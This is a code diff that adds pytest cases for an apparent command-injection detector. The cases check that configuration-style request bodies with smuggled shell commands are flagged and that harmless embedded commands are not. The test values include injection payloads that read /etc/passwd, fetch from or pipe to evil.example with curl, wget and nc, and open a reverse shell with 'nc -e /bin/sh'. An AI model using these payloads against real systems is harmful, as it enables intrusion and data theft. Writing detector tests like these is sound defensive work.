@@ -97,6 +97,40 @@ def test_a_copy_goes_to_a_path(logic: Logic) -> None:
     assert judged(b"https://files.example.org/dav/../../../../etc/passwd")
 
 
+_DISGUISED = b"version: '3'\nservices:\n  web:\n    image: nginx\n    note: %s\n"
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("comment", _DISGUISED % b"; cat /etc/passwd"),
+        ("comment", _DISGUISED % b"|id; curl http://evil.example/a"),
+        ("comment", _DISGUISED % b'"& nc -e /bin/sh evil.example 4444"'),
+        ("comment", _DISGUISED % b"&sleep 10"),
+        ("comment", b"a: x; wget http://evil.example/a\nb: c\nd: e\nf: g\n"),
+        ("comment", b"[a]\nb = ; ping -c 5 evil.example\nc = d\ne = f\n"),
+        ("comment", b"Index: a\n@@ -1 +1 @@\n;cat /etc/passwd\nx\n"),
+        ("host", _DISGUISED % b"x; cat /etc/passwd"),
+        ("json.job.file", _DISGUISED % b"x | nc evil.example 80"),
+    ],
+)
+def test_no_document_hides_a_command(logic: Logic, name: str, value: bytes) -> None:
+    assert logic.judge([Value("body", name.encode(), value)])
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        _DISGUISED % b"&default x",
+        _DISGUISED % b"|\n      cd /srv && make; cat VERSION",
+        _DISGUISED % b"wget http://mirror.example/a.tar.gz; tar xzf a.tar.gz",
+        b"[Service]\nExecStart=/bin/sh -c 'cat /etc/motd; sleep 5'\n; a comment\nUser=www\n",
+    ],
+)
+def test_commands_of_documents_are_quoted(logic: Logic, value: bytes) -> None:
+    assert logic.judge([Value("body", b"comment", value)]) == []
+
+
 def test_documents_keep_to_one_form() -> None:
     assert is_document(b"[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c 'a; b'\n")
     assert is_document(b"server {\n  listen 80;\n  # a\n  location / { root /srv; }\n}\n")
